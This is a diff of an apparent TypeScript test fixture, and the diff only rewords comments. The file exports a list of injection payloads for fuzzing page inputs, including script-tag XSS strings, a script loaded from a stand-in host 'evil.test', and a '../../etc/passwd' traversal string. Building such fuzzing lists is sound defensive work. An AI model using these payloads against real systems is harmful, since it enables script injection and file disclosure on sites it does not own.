@@ -1,7 +1,7 @@
-/** Leaves a trace where it is run: a dialog, or a word in the window. */
+/** Leaves a trace if it runs: a dialog or a property of `window`. */
 const run = ['alert(1)', 'window.owned=1'] as const;
 
-/** Texts that become something else wherever a page takes a text for markup, a style, an address or a template. At most 100 characters each. */
+/** Texts of at most 100 characters that change if a page treats text as markup, style, address or template. */
 export const payloads: readonly string[] = [
   ...run.map((script) => `<script>${script}</script>`),
   '<script src=//evil.test/x.js></script>',
@@ -77,10 +77,10 @@ export const payloads: readonly string[] = [
   '../../etc/passwd',
 ];
 
-/** Those that a field of so many characters takes. */
+/** Returns the payloads of at most this length. */
 export const payloadsUpTo = (length: number) => payloads.filter((payload) => payload.length <= length);
 
-/** The smallest picture there is. */
+/** A PNG of one pixel. */
 export const DOT = Buffer.from(
   'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
   'base64',
